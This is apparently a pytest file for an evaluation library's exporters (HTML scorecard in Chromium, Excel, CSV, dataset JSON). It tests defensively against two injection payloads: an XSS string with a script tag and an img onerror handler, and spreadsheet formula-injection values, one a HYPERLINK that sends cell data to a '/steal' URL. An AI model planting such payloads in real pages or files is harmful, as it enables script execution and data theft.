"""Exports: the HTML scorecard in headless Chromium, Excel with pandas, CSV, the dataset-schema document."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

import evalnb
from evalnb import export
from evalnb.suite import Case, ExactMatchCheck, JudgedMetricCheck, PartialMatchCheck, RegexCheck, Suite, Turn
from tests.support.browser import chromium_page

EVIL = '<script>window.pwned = true</script><img src=x onerror="window.pwned=true">'


def make_suite() -> Suite:
    return Suite(
        name="export-suite",
        format="tasks-toml",
        cases=[
            Case(
                id=f"c{i}",
                name=f"case {i}",
                category="alpha" if i % 2 else "beta",
                runs=2,
                turns=[
                    Turn(
                        prompt=f"q{i}",
                        expected="yes",
                        checks=[RegexCheck(on="result", pattern="^yes$"), ExactMatchCheck()],
                    )
                ],
            )
            for i in range(5)
        ],
    )


def agent(prompt: str) -> str:
    return EVIL if prompt == "q2" else "yes"


@pytest.fixture(scope="module")
def result() -> evalnb.Result:
    return evalnb.run(make_suite(), agent, progress=False)


def test_excel_has_the_sheets(result: evalnb.Result, tmp_path: Path) -> None:
    path = result.to_excel(tmp_path / "out" / "card.xlsx")
    sheets = pd.read_excel(path, sheet_name=None)
    assert list(sheets) == ["summary", "categories", "cases", "scores"]
    assert len(sheets["scores"]) == len(result.scores)
    assert sheets["cases"]["case_id"].tolist() == [f"c{i}" for i in range(5)]
    assert sheets["cases"].set_index("case_id").loc["c2", "response"] == EVIL
    assert set(sheets["summary"]["check_id"]) == {"regex", "ExactMatch"}


def test_csv_folder(result: evalnb.Result, tmp_path: Path) -> None:
    folder = result.to_csv(tmp_path / "csv")
    names = sorted(p.name for p in folder.iterdir())
    assert names == ["cases.csv", "categories.csv", "mismatches.csv", "runs.csv", "scores.csv", "summary.csv"]
    assert len(pd.read_csv(folder / "scores.csv")) == len(result.scores)


def test_write_by_extension(result: evalnb.Result, tmp_path: Path) -> None:
    assert export.write(result, tmp_path / "r.json").exists()
    assert json.loads((tmp_path / "r.json").read_text())["schema_version"] == 1
    assert export.write(result, tmp_path / "r.html").read_text().startswith("<!DOCTYPE html>")
    assert (export.write(result, tmp_path / "folder.csv") / "runs.csv").exists()
    with pytest.raises(evalnb.ConfigError, match=r"use one of .*\.html.*\.json.*\.txt.*\.xlsx"):
        export.write(result, tmp_path / "r.pdf")
    assert export.write(result, tmp_path / "r.txt").read_text() == result.report()


def test_write_several_results(result: evalnb.Result, tmp_path: Path) -> None:
    both = [result, result]
    data = json.loads(export.write(both, tmp_path / "all.json").read_text())
    assert [d["schema_version"] for d in data] == [1, 1]
    assert export.write(both, tmp_path / "all.txt").read_text() == "\n".join([result.report()] * 2)
    assert export.write(both, tmp_path / "all.html").read_text().count('<section id="suite-') == 2
    with pytest.raises(evalnb.ConfigError, match=r"a \.xlsx holds one suite and this run has 2"):
        export.write(both, tmp_path / "all.xlsx")


def test_html_scorecard_in_headless_chromium(result: evalnb.Result, tmp_path: Path) -> None:
    path = result.to_html(tmp_path / "card.html")
    text = path.read_text()
    assert text.count("plotly.js v") <= 2  # the library is inlined once
    assert EVIL not in text  # never raw
    with chromium_page(offline=True) as page:  # offline: plotly.js is inlined
        page.goto(path.as_uri())
        page.wait_for_selector(".plotly .main-svg", timeout=15000)
        assert page.title() == "Scorecard: export-suite"
        assert page.locator("#counts").inner_text().startswith("4 passed, 1 failed")
        assert page.locator(".js-plotly-plot").count() == 2
        # the injected script shows as text and never ran
        assert page.evaluate("window.pwned === undefined")
        cell = page.locator("#cases tbody tr", has_text="c2").locator("td").nth(8)
        assert cell.inner_text() == EVIL
        assert page.locator("#cases script").count() == 0 and page.locator("#cases img").count() == 0

        def column(i: int) -> list[str]:
            return page.locator(f"#cases tbody tr td:nth-child({i})").all_inner_texts()

        assert column(1) == ["c0", "c1", "c2", "c3", "c4"]
        status_header = page.locator("#cases th", has_text="status")
        status_header.click()
        assert column(4) == sorted(column(4))
        assert column(4)[0] == "failed"
        status_header.click()
        assert column(4)[0] == "passed" and column(4)[-1] == "failed"
        page.locator("#cases th", has_text="case_id").click()
        assert column(1) == ["c0", "c1", "c2", "c3", "c4"]
        assert not page.errors, page.errors


def test_dataset_document_round_trip(tmp_path: Path) -> None:
    suite = Suite(
        name="kb",
        format="dataset-json",
        cases=[
            Case(id="i1", name="i1", category="knowledge",
                 turns=[Turn(prompt="What is Graph?", expected="A unified API",
                             checks=[ExactMatchCheck(), PartialMatchCheck(threshold=0.5), JudgedMetricCheck(type="Relevance")])]),
            Case(id="t1", name="Expense flow", turns=[
                Turn(prompt="I spent $250", expected="limit is $200", checks=[PartialMatchCheck()]),
                Turn(prompt="What now?", expected="ask approval", checks=[ExactMatchCheck()]),
            ]),
        ],
    )  # fmt: skip
    answers = {"What is Graph?": "A unified API", "I spent $250": "the limit is $200", "What now?": "no idea"}
    result = evalnb.run(suite, lambda p: answers[p], progress=False)
    path = tmp_path / "v1-results.json"
    export.write(result, path)
    doc = json.loads(path.read_text())
    assert doc["schemaVersion"] == evalnb.export.DOCUMENT_SCHEMA_VERSION == "1.11.0"
    item, thread = doc["items"]
    assert item["response"] == "A unified API"
    assert item["scores"]["exactMatch"] == {
        "match": True,
        "result": "pass",
        "reason": item["scores"]["exactMatch"]["reason"],
    }
    assert (
        item["scores"]["partialMatch"]["threshold"] == 0.5
        and item["scores"]["partialMatch"]["result"] == "pass"
    )
    # no judge: Relevance fails as not evaluated (api contract); with no score, the schema's entry for it is
    # an errored one (a pass/fail entry needs a number) with the code of an evaluator not set up for the run,
    # and the item is partial: the agent answered, an evaluator did not run (dataset spec, Output statuses)
    assert item["scores"]["relevance"] == {
        "result": "error",
        "code": "evaluatorConfigurationError",
        "error": "llm judge not evaluated: this runner has no judge router",
    }
    assert item["status"] == "partial"
    assert item["error"] == {
        "code": "evaluatorsFailed",
        "message": "Agent response obtained. 1 of 3 evaluators failed to run.",
    }
    # one turn passed and one failed: the thread failed (error > partial > fail > pass)
    assert thread["summary"] == {
        "turns_total": 2, "turns_passed": 1, "turns_failed": 1, "turns_partial": 0, "turns_errored": 0,
        "overall_status": "fail",
    }  # fmt: skip
    assert thread["turns"][1]["status"] == "fail"

    back = evalnb.read_results(path)
    assert back.suite.name == "kb"
    assert back.runs["response"].tolist() == result.runs["response"].tolist()
    cols = ["case_id", "run", "turn", "check_id", "value", "passed"]
    pd.testing.assert_frame_equal(back.scores[cols], result.scores[cols])
    assert back.cases["status"].tolist() == result.cases["status"].tolist()


# --- atomic files, reading back -----------------------------------------------------------------------


# openpyxl writes each sheet to a temporary file first; when that write fails, its zip archive is left
# half-closed and complains when collected. Collected here (gc.collect below), so the complaint stays in this test.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("name", ["card.html", "card.xlsx", "plain.json", "doc.json"])
def test_a_write_failing_midway_leaves_the_old_file(result: evalnb.Result, tmp_path: Path, name: str) -> None:
    import gc

    from tests.support.disk import assert_write_fails

    target = tmp_path / name
    target.write_text("the previous export")
    subject = result
    if name == "doc.json":
        subject = evalnb.run(
            Suite(name="kb", format="dataset-json", cases=make_suite().cases), agent, progress=False
        )
    with assert_write_fails(2_000):  # every one of these files is larger: the write fails part-way
        export.write(subject, target)
    gc.collect()
    assert target.read_text() == "the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no temporary file left behind
    export.write(subject, target)  # and without the limit it is written whole
    assert target.stat().st_size > 2_000


def test_csv_files_are_each_whole(result: evalnb.Result, tmp_path: Path) -> None:
    from tests.support.disk import assert_write_fails

    folder = tmp_path / "csv"
    folder.mkdir()
    for name in ("runs.csv", "scores.csv"):
        (folder / name).write_text("old\n")
    with assert_write_fails(2_000):  # runs.csv (1.2 kB) fits, scores.csv (3 kB) does not
        export.to_csv(result, folder)
    assert len(pd.read_csv(folder / "runs.csv")) == len(result.runs)
    assert (folder / "scores.csv").read_text() == "old\n"
    assert not [p.name for p in folder.iterdir() if p.name.startswith(".")]


def test_read_results_says_what_it_reads(result: evalnb.Result, tmp_path: Path) -> None:
    csv_file = result.to_csv(tmp_path / "csv") / "scores.csv"
    xlsx = result.to_excel(tmp_path / "card.xlsx")
    cases = [
        (csv_file, "not valid JSON", "UNKNOWN_RESULTS"),
        (csv_file.parent, "is a folder", "UNKNOWN_RESULTS"),
        (xlsx, "not a text file", "UNKNOWN_RESULTS"),
        (tmp_path / "missing.json", "no such file", "RESULTS_NOT_FOUND"),
    ]
    for path, what, code in cases:
        with pytest.raises(evalnb.errors.StoreError) as info:
            evalnb.read_results(path)
        message = str(info.value)
        assert message.startswith(str(path)) and what in message, message
        assert "reads the JSON that Result.to_json" in message and "dataset output documents" in message
        assert info.value.code == code
    # our JSON under any name is read by its content, not its extension
    saved = tmp_path / "result.txt"
    saved.write_text(result.to_json())
    assert evalnb.read_results(saved).scores["passed"].tolist() == result.scores["passed"].tolist()


FORMULAS = {
    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"click")': "=1+2",
    "+cmd": "@SUM(A1:A9)",
    "-2+3": "\t=1",
    "plain": "\r=1",
}


def _formula_result() -> evalnb.Result:
    cases = [
        Case(id=cid, name=cid, turns=[Turn(prompt=cid, checks=[RegexCheck(on="result", pattern="x")])])
        for cid in FORMULAS
    ]
    suite = Suite(name="=suite", format="tasks-toml", cases=cases)
    return evalnb.run(suite, lambda prompt: FORMULAS[prompt], progress=False)


def test_excel_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    """OWASP CSV injection: a case id or an answer that starts with = + - @ tab or CR is text, never a formula."""
    import zipfile

    import openpyxl

    path = _formula_result().to_excel(tmp_path / "card.xlsx")
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no cell of any sheet holds a formula
    book = openpyxl.load_workbook(path)
    seen: dict[str, bool] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value[:1] in ("=", "+", "-", "@", "\t", "\n"):
                        seen[cell.value] = bool(cell.quotePrefix)
    for text in [t for t in [*FORMULAS, *FORMULAS.values(), "=suite"] if t != "plain"]:
        # the text as written, marked as text (XML reads a carriage return back as a line feed)
        assert seen.get(text.replace("\r", "\n")) is True, text
    runs = pd.read_excel(path, sheet_name="cases")
    assert runs["response"].tolist()[:3] == list(FORMULAS.values())[:3]  # the value itself is unchanged


def test_csv_prefixes_formula_like_text(tmp_path: Path) -> None:
    import csv

    result = _formula_result()
    folder = result.to_csv(tmp_path / "csv")
    with open(folder / "runs.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["case_id"] for r in rows] == ["'" + c if c != "plain" else c for c in FORMULAS]
    assert [r["response"] for r in rows] == ["'" + v for v in FORMULAS.values()]
    assert {r["suite"] for r in rows} == {"'=suite"}
    # numbers stay numbers: a negative latency would be written bare (only text is prefixed)
    with open(folder / "cases.csv", newline="", encoding="utf-8") as fh:
        cases = list(csv.DictReader(fh))
    assert all(not r["latency_ms"].startswith("'") for r in cases)
    assert result.runs["response"].tolist() == list(FORMULAS.values())  # the frames keep the text as it was


def mk(name: str) -> Suite:
    return Suite(
        name=name,
        format="tasks-toml",
        cases=[
            Case(id=f"c{i}", name=f"case {i}", runs=1,
                 turns=[Turn(prompt=f"q{i}", expected="yes", checks=[RegexCheck(on="result", pattern="^yes$")])])
            for i in range(3)
        ],
    )  # fmt: skip


def test_html_case_table_sorts_ids_in_natural_order(tmp_path: Path) -> None:
    suite = mk("natural")
    suite.cases = [
        c.model_copy(update={"id": f"case{n}"}) for c, n in zip(suite.cases, (10, 2, 1), strict=True)
    ]
    path = evalnb.run(suite, lambda p: "yes", progress=False).to_html(tmp_path / "card.html")
    with chromium_page() as page:
        page.goto(path.as_uri())
        page.locator("#cases th", has_text="case_id").click()
        ids = page.locator("#cases tbody tr td:nth-child(1)").all_inner_texts()
        assert ids == ["case1", "case2", "case10"]


def test_a_scorecard_of_several_suites_has_a_section_per_suite(tmp_path: Path) -> None:
    first = evalnb.run(mk("first-suite"), lambda p: "yes", progress=False)
    second = evalnb.run(mk("second-suite"), lambda p: "no" if p == "q1" else "yes", progress=False)
    path = export.to_html([first, second], tmp_path / "both.html")
    text = path.read_text()
    assert text.count("plotly.js v") <= 2  # the library is inlined once for every suite's plots
    with chromium_page(offline=True) as page:
        page.goto(path.as_uri())
        page.wait_for_selector(".plotly .main-svg", timeout=15000)
        assert page.title() == "Scorecard: 2 suites"
        assert (
            page.locator("#counts")
            .inner_text()
            .startswith("5 passed, 1 failed, 0 degraded, 0 skipped over 2")
        )
        rows = page.locator("#suites tbody tr").all_inner_texts()
        assert [r.split("\t")[0] for r in rows] == ["first-suite", "second-suite"]
        assert page.locator("section h2").all_inner_texts() == ["first-suite", "second-suite"]
        assert page.locator(".js-plotly-plot").count() == 4  # each suite's scorecard and categories
        second_cases = page.locator("#cases-2 tbody tr td:nth-child(4)").all_inner_texts()
        assert second_cases == ["passed", "failed", "passed"]
        page.locator("#cases-2 th", has_text="status").click()  # each section's table sorts on its own
        assert page.locator("#cases-2 tbody tr td:nth-child(4)").all_inner_texts()[0] == "failed"
        assert page.locator("#cases-1 tbody tr td:nth-child(1)").all_inner_texts() == ["c0", "c1", "c2"]
        assert not page.errors, page.errors


def test_the_case_table_shows_the_turn_that_failed(tmp_path: Path) -> None:
    talk = Suite(name="talk", format="tasks-toml", cases=[
        Case(id="chat", name="two turns", runs=2, turns=[
            Turn(prompt="first", expected="one", checks=[ExactMatchCheck()]),
            Turn(prompt="second", expected="two", checks=[ExactMatchCheck()]),
        ]),
    ])  # fmt: skip
    answers = {"first": "one", "second": "three"}
    result = evalnb.run(talk, lambda p: answers[p], progress=False)
    path = result.to_html(tmp_path / "talk.html")
    with chromium_page(offline=True) as page:
        page.goto(path.as_uri())
        header = page.locator("#cases thead th").all_inner_texts()
        row = dict(
            zip(header, page.locator("#cases tbody tr").first.locator("td").all_inner_texts(), strict=True)
        )
        assert (
            row["status"] == "failed"
            and row["response"] == "three"
            and row["response from"] == "run 1, turn 2"
        )
        assert row["reasons"].startswith("ExactMatch:")
    # the Excel sheet reads the same table
    cases = pd.read_excel(result.to_excel(tmp_path / "talk.xlsx"), sheet_name="cases")
    assert cases.loc[0, "response"] == "three" and cases.loc[0, "response_turn"] == 2
